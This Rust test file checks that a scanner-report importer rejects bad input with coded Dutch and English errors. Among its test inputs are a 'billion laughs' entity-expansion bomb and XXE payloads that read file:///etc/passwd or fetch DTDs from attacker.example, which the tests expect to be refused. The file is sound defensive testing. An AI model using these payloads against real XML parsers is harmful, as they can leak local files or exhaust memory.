//! Bad input: each a clear error with a code, Dutch and English messages and a position where possible; never a
//! panic, never an expanded entity.

use cyberveilig_findings::{Finding, Format, ImportError, Limits, SinkError, import, import_to_vec};

use crate::{data, import as import_default};

fn err(format: Option<Format>, bytes: &[u8]) -> ImportError {
    match import_default(format, bytes) {
        Ok((_, f)) => panic!("expected an error, got {} findings", f.len()),
        Err(e) => {
            assert!(!e.message_en().is_empty() && !e.message_nl().is_empty());
            assert_ne!(e.message_en(), e.message_nl());
            e
        }
    }
}

const XML_FILES: [(&str, Format); 6] = [
    ("nessus/two_hosts.nessus", Format::Nessus),
    ("openvas/two_results.xml", Format::OpenVas),
    ("nmap/exposed.xml", Format::Nmap),
    ("zap/site.xml", Format::ZapXml),
    ("burp/issues.xml", Format::Burp),
    ("zap/site.xml", Format::ZapXml),
];

const JSON_FILES: [(&str, Format); 4] = [
    ("sarif/codeql.sarif", Format::Sarif),
    ("zap/site.json", Format::ZapJson),
    ("nuclei/results_array.json", Format::Nuclei),
    ("generic/findings.json", Format::GenericJson),
];

#[test]
fn truncated_xml_is_refused_wherever_it_is_cut() {
    for (path, format) in XML_FILES {
        let bytes = data(path);
        // Cut after the root element started, at many points.
        let root = bytes.windows(2).position(|w| w[0] == b'<' && w[1].is_ascii_alphabetic()).unwrap();
        for i in 1..20 {
            let cut = root + (bytes.len() - root - 3) * i / 20;
            let e = err(Some(format), &bytes[..cut]);
            assert_eq!(e.code(), "truncated", "{path} cut at {cut}: {e}");
            assert!(e.position().is_some());
        }
    }
}

#[test]
fn truncated_json_is_refused_wherever_it_is_cut() {
    for (path, format) in JSON_FILES {
        let bytes = data(path);
        for i in 1..20 {
            let cut = bytes.len() * i / 20;
            let e = err(Some(format), &bytes[..cut]);
            assert_eq!(e.code(), "truncated", "{path} cut at {cut}: {e}");
            let p = e.position().unwrap();
            assert!(p.line >= 1 && p.column.is_some());
        }
    }
}

#[test]
fn a_json_line_cut_in_the_middle_is_refused_with_its_line_number() {
    let bytes = data("nuclei/results.jsonl");
    let text = String::from_utf8(bytes).unwrap();
    let cut = text.find("\"templateID\"").unwrap() + 30;
    let e = err(Some(Format::Nuclei), &text.as_bytes()[..cut]);
    assert_eq!(e.code(), "truncated");
    assert_eq!(e.position().unwrap().line, 3);
}

#[test]
fn malformed_documents() {
    let e = err(
        Some(Format::Nessus),
        b"<NessusClientData_v2><Report><ReportHost name=\"a\"></Report></NessusClientData_v2>",
    );
    assert_eq!(e.code(), "malformed", "{e}");
    let e = err(Some(Format::Nmap), b"<nmaprun><host></host></nmaprun><nmaprun/>");
    assert_eq!(e.code(), "malformed", "{e}");
    let e = err(
        Some(Format::Sarif),
        b"{\n  \"version\": \"2.1.0\",\n  \"runs\": [ { \"results\": [ } ]\n}",
    );
    assert_eq!(e.code(), "malformed", "{e}");
    assert_eq!(e.position().unwrap().line, 3);
    let e = err(Some(Format::GenericCsv), b"title,severity\n\"ok\",High\n\"too\",many,fields\n");
    assert_eq!(e.code(), "malformed", "{e}");
    assert_eq!(e.position().unwrap().line, 3);
    let e = err(Some(Format::Nessus), b"<NessusClientData_v2><Report><ReportHost name=\"h\"><ReportItem port=\"1\" protocol=\"tcp\" severity=\"9\" pluginID=\"1\"/></ReportHost></Report></NessusClientData_v2>");
    assert_eq!(e.code(), "invalid_field", "{e}");
    let e = err(Some(Format::Nessus), b"<NessusClientData_v2><Report><ReportHost name=\"h\"><ReportItem port=\"1\" protocol=\"tcp\" severity=\"2\"/></ReportHost></Report></NessusClientData_v2>");
    assert_eq!(e.code(), "missing_field", "{e}");
    let e = err(Some(Format::Nessus), b"<NessusClientData_v2>\xff\xfe</NessusClientData_v2>");
    assert_eq!(e.code(), "invalid_utf8", "{e}");
    let e = err(Some(Format::GenericJson), br#"{"findings":[{"title":"x","severity":"urgent"}]}"#);
    assert_eq!(e.code(), "invalid_field", "{e}");
    let e = err(Some(Format::GenericJson), br#"{"findings":[{"severity":"low"}]}"#);
    assert_eq!(e.code(), "missing_field", "{e}");
}

#[test]
fn the_wrong_format_is_named() {
    let nessus = data("nessus/two_hosts.nessus");
    for format in [Format::OpenVas, Format::Nmap, Format::ZapXml, Format::Burp] {
        let e = err(Some(format), &nessus);
        assert_eq!(e.code(), "wrong_format", "{format}: {e}");
        assert!(e.message_en().contains("<NessusClientData_v2>"), "{}", e.message_en());
    }
    let zap_json = data("zap/site.json");
    assert_eq!(err(Some(Format::Sarif), &zap_json).code(), "wrong_format");
    assert_eq!(
        err(Some(Format::Nuclei), &zap_json).code(),
        "malformed",
        "a JSON object where lines or an array are expected"
    );
    assert_eq!(err(Some(Format::GenericJson), &zap_json).code(), "wrong_format");
    assert_eq!(err(Some(Format::ZapJson), &data("sarif/codeql.sarif")).code(), "wrong_format");
    assert_eq!(err(Some(Format::Nuclei), br#"{"findings":[]}"#).code(), "wrong_format");
    assert_eq!(err(Some(Format::GenericCsv), &nessus).code(), "wrong_format");
    assert_eq!(err(None, b"%PDF-1.7\n").code(), "unknown_format");
    assert_eq!(err(None, b"").code(), "unknown_format");
}

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE NessusClientData_v2 [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<NessusClientData_v2><Report><ReportHost name="h"><ReportItem port="0" protocol="tcp" severity="0" pluginID="1" pluginName="x">
<plugin_output>&lol9;</plugin_output></ReportItem></ReportHost></Report></NessusClientData_v2>"#;

#[test]
fn an_entity_expansion_bomb_is_refused_not_expanded() {
    let e = err(Some(Format::Nessus), BILLION_LAUGHS.as_bytes());
    assert_eq!(e.code(), "xml_entity_declaration");
    assert_eq!(e.position().unwrap().line, 7, "at the end of the DOCTYPE");
    assert!(e.message_nl().contains("<!ENTITY>"));
    // Detection still recognises it; import refuses it.
    assert_eq!(err(None, BILLION_LAUGHS.as_bytes()).code(), "xml_entity_declaration");
}

#[test]
fn external_entities_and_dtds_are_refused() {
    let xxe = r#"<?xml version="1.0"?>
<!DOCTYPE nmaprun [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<nmaprun><host><address addr="&xxe;" addrtype="ipv4"/></host></nmaprun>"#;
    assert_eq!(err(Some(Format::Nmap), xxe.as_bytes()).code(), "xml_entity_declaration");
    let parameter = r#"<!DOCTYPE report [ <!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; ]><report/>"#;
    assert_eq!(err(Some(Format::OpenVas), parameter.as_bytes()).code(), "xml_entity_declaration");
    let external_dtd = r#"<?xml version="1.0"?><!DOCTYPE issues SYSTEM "http://attacker.example/burp.dtd"><issues></issues>"#;
    assert_eq!(err(Some(Format::Burp), external_dtd.as_bytes()).code(), "xml_external_dtd");
    let public_dtd = r#"<!DOCTYPE OWASPZAPReport PUBLIC "-//X//Y" "http://attacker.example/z.dtd"><OWASPZAPReport/>"#;
    assert_eq!(err(Some(Format::ZapXml), public_dtd.as_bytes()).code(), "xml_external_dtd");
    // A reference to an entity that was never declared (in text and in an attribute).
    let undeclared_text = "<nmaprun><host><status state=\"up\"/><address addr=\"192.0.2.1\" addrtype=\"ipv4\"/><ports><port protocol=\"tcp\" portid=\"23\"><state state=\"open\"/><script id=\"vulners\"><table><elem key=\"id\">&xxe;</elem></table></script></port></ports></host></nmaprun>";
    let e = err(Some(Format::Nmap), undeclared_text.as_bytes());
    assert_eq!(e.code(), "xml_undefined_entity");
    assert!(e.message_en().contains("&xxe;"));
    let undeclared_attr = r#"<nmaprun><host><address addr="&xxe;" addrtype="ipv4"/></host></nmaprun>"#;
    assert_eq!(err(Some(Format::Nmap), undeclared_attr.as_bytes()).code(), "xml_undefined_entity");
    // Predefined entities and character references are fine.
    let fine =
        r#"<!DOCTYPE nmaprun><nmaprun version="7&#46;94 &amp; more"><host><address addr="192.0.2.1" addrtype="ipv4"/></host></nmaprun>"#;
    let (r, _) = crate::ok(Some(Format::Nmap), fine.as_bytes());
    assert_eq!(r.tool_version.as_deref(), Some("7.94 & more"));
}

#[test]
fn limits_are_enforced() {
    let bytes = data("nessus/two_hosts.nessus");
    let limits = Limits {
        max_bytes: 1000,
        ..Limits::default()
    };
    let e = import_to_vec(Some(Format::Nessus), &bytes[..], &limits).unwrap_err();
    assert!(matches!(e, ImportError::TooLarge { limit: 1000 }), "{e}");
    assert_eq!(e.code(), "too_large");
    // Exactly at the limit is fine.
    let limits = Limits {
        max_bytes: bytes.len() as u64,
        ..Limits::default()
    };
    assert!(import_to_vec(Some(Format::Nessus), &bytes[..], &limits).is_ok());
    // Too large also for the JSON formats, and through detection.
    let json = data("sarif/codeql.sarif");
    let limits = Limits {
        max_bytes: 500,
        ..Limits::default()
    };
    assert_eq!(
        import_to_vec(Some(Format::Sarif), &json[..], &limits).unwrap_err().code(),
        "too_large"
    );
    let limits = Limits {
        max_bytes: 100,
        ..Limits::default()
    };
    assert_eq!(import_to_vec(None, &json[..], &limits).unwrap_err().code(), "too_large");
    let lines = data("nuclei/results.jsonl");
    assert_eq!(
        import_to_vec(
            Some(Format::Nuclei),
            &lines[..],
            &Limits {
                max_bytes: 1000,
                ..Limits::default()
            }
        )
        .unwrap_err()
        .code(),
        "too_large"
    );
    let csv = data("generic/findings.csv");
    assert_eq!(
        import_to_vec(
            Some(Format::GenericCsv),
            &csv[..],
            &Limits {
                max_bytes: 300,
                ..Limits::default()
            }
        )
        .unwrap_err()
        .code(),
        "too_large"
    );

    let limits = Limits {
        max_findings: 3,
        ..Limits::default()
    };
    let e = import_to_vec(Some(Format::Nessus), &bytes[..], &limits).unwrap_err();
    assert!(matches!(e, ImportError::TooManyFindings { limit: 3 }), "{e}");

    let limits = Limits {
        max_field_bytes: 40,
        ..Limits::default()
    };
    let e = import_to_vec(Some(Format::Nessus), &bytes[..], &limits).unwrap_err();
    assert_eq!(e.code(), "field_too_large", "{e}");
    let e = import_to_vec(Some(Format::Nuclei), &lines[..], &limits).unwrap_err();
    assert_eq!(e.code(), "field_too_large", "{e}");

    let deep = format!("<nmaprun>{}{}</nmaprun>", "<a>".repeat(100), "</a>".repeat(100));
    let e = import_to_vec(Some(Format::Nmap), deep.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(e.code(), "too_deep", "{e}");
    let deep_json = format!("{{\"findings\":[{}{}]}}", "[".repeat(200), "]".repeat(200));
    let e = import_to_vec(Some(Format::GenericJson), deep_json.as_bytes(), &Limits::default()).unwrap_err();
    assert_eq!(e.code(), "malformed", "serde_json's recursion limit: {e}");
}

#[test]
fn a_sink_error_stops_the_import() {
    let bytes = data("nessus/two_hosts.nessus");
    let mut seen = 0;
    let mut sink = |_: Finding| -> Result<(), SinkError> {
        seen += 1;
        if seen == 2 { Err("database full".into()) } else { Ok(()) }
    };
    let e = import(Format::Nessus, &bytes[..], &Limits::default(), &mut sink).unwrap_err();
    assert_eq!(e.code(), "sink");
    assert!(e.message_en().contains("database full"));
    assert_eq!(seen, 2, "nothing after the error");
}

#[test]
fn messages_in_both_languages() {
    let e = ImportError::Truncated {
        position: cyberveilig_findings::Position {
            byte: 10,
            line: 2,
            column: None,
        },
        detail: "x".into(),
    };
    assert_eq!(e.message_en(), "The file ends too early (truncated?) at line 2 (byte 10): x.");
    assert_eq!(e.message_nl(), "Het bestand houdt te vroeg op (afgekapt?) op regel 2 (byte 10): x.");
    let e = ImportError::TooLarge { limit: 5 };
    assert_eq!(e.message_nl(), "Het bestand is groter dan de limiet van 5 bytes.");
    assert_eq!(e.message_en(), "The file is larger than the limit of 5 bytes.");
}
